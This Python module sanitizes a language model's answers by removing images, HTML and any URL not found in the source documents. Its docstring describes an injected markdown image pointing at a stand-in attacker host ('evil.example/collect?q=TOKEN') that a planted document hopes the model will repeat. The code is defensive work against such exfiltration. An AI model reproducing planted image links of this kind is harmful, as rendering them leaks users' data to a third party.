"""What an answer may contain: no images, no links the sources do not hold, no HTML.

A document can plant ``![x](http://evil.example/collect?q=TOKEN)`` and hope the model repeats it, so that
rendering the answer sends a request. So every image is removed (inline and reference-style, with their
link definitions), every URL that no source shown to the model contains is dropped (a markdown link keeps
its text), and HTML tags are removed. Code spans and blocks are left alone: they are shown as code.

Images are matched generously (alt text over lines or with brackets in it, shortcut ``![ref]``), and any
``![`` left after that loses its ``!``: whatever a Markdown renderer would read as an image, it cannot be one.
"""

from __future__ import annotations

import re

from pydantic import BaseModel, Field

# A fence opens a code block only at the start of a line (a ``` mid-line does not hide what follows it); a
# code span is not opened by an escaped backtick. Anything else is treated as prose: cleaned.
_CODE = re.compile(
    r"^[ ]{0,3}(`{3,}|~{3,})[^\n]*(?:\n.*?(?:^[ ]{0,3}\1[ \t]*$|\Z)|\Z)|(?<!\\)`[^`\n]*`", re.DOTALL | re.MULTILINE
)
_ALT = r"((?:[^\[\]\n]|\n(?![ \t]*\n)|\[[^\[\]\n]*\])*)"  # over lines, not paragraphs; one level of [brackets]
_IMAGE = re.compile(rf"!\[{_ALT}\](?:\s*(?:\([^)\n]*\)|\[[^\]\n]*\]))?")
_IMAGE_OPENER = re.compile(r"!(?=\[)")
_REF_DEFINITION = re.compile(r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*\S+.*$", re.MULTILINE)
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_URL = re.compile(r"\b(?:https?|ftp)://[^\s<>()\[\]\"'`]+|\bwww\.[^\s<>()\[\]\"'`]+", re.IGNORECASE)
_AUTOLINK = re.compile(r"<((?:https?|ftp)://[^>\s]+)>", re.IGNORECASE)
_SCRIPT = re.compile(r"<(script|style)\b[^>]*>.*?(?:</\1\s*>|$)", re.IGNORECASE | re.DOTALL)
_TAG = re.compile(r"</?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>\n]*)?/?>")
_TRAILING = ".,;:!?)]}'\""


class Sanitized(BaseModel):
    text: str
    removed: list[str] = Field(default_factory=list, description="images, links and tags taken out, as written")


def _allowed(url: str, sources: list[str]) -> bool:
    bare = url.rstrip(_TRAILING)
    return bool(bare) and any(bare in s for s in sources)


def _clean_prose(text: str, sources: list[str], removed: list[str]) -> str:
    def image(m: re.Match[str]) -> str:
        removed.append(m.group(0))
        return m.group(1)

    def link(m: re.Match[str]) -> str:
        if _allowed(m.group(2), sources):
            return m.group(0)
        removed.append(m.group(0))
        return m.group(1)

    def url(m: re.Match[str]) -> str:
        if _allowed(m.group(0), sources):
            return m.group(0)
        removed.append(m.group(0))
        return ""

    def tag(m: re.Match[str]) -> str:
        removed.append(m.group(0))
        return ""

    def opener(m: re.Match[str]) -> str:
        removed.append("![")
        return ""

    text = _SCRIPT.sub(tag, text)
    text = _IMAGE.sub(image, text)
    text = _IMAGE_OPENER.sub(opener, text)
    text = _REF_DEFINITION.sub(tag, text)
    text = _AUTOLINK.sub(lambda m: m.group(1), text)
    # Links first (their URL is checked once), then bare URLs outside them.
    out, cursor = [], 0
    for m in _LINK.finditer(text):
        out.append(_URL.sub(url, text[cursor : m.start()]))
        out.append(link(m))
        cursor = m.end()
    out.append(_URL.sub(url, text[cursor:]))
    return _TAG.sub(tag, "".join(out))


def sanitize_answer(text: str, sources: list[str]) -> Sanitized:
    """``text`` without images, HTML tags, or URLs that none of ``sources`` contains."""
    removed: list[str] = []
    pieces, cursor = [], 0
    for m in _CODE.finditer(text):
        pieces.append(_clean_prose(text[cursor : m.start()], sources, removed))
        pieces.append(m.group(0))
        cursor = m.end()
    pieces.append(_clean_prose(text[cursor:], sources, removed))
    cleaned = re.sub(r"[ \t]+\n", "\n", re.sub(r"[ \t]{2,}", " ", "".join(pieces)))
    return Sanitized(text=cleaned.strip() if removed else text, removed=removed)


def no_images(text: str) -> str:
    """Markdown for display with every image (inline or reference-style) replaced by its alt text."""
    return _REF_DEFINITION.sub("", _IMAGE_OPENER.sub("", _IMAGE.sub(r"\1", text)))


_ANY_DEFINITION = re.compile(r"\[[^\]\n]+\]:[ \t]*\S+")


def linkable(source: str) -> str:
    """The part of a source whose URLs an answer may repeat: images and link definitions (wherever they sit,
    evidence joins lines) only point somewhere, they are not links a reader was shown."""
    return _ANY_DEFINITION.sub("", _IMAGE.sub("", source))
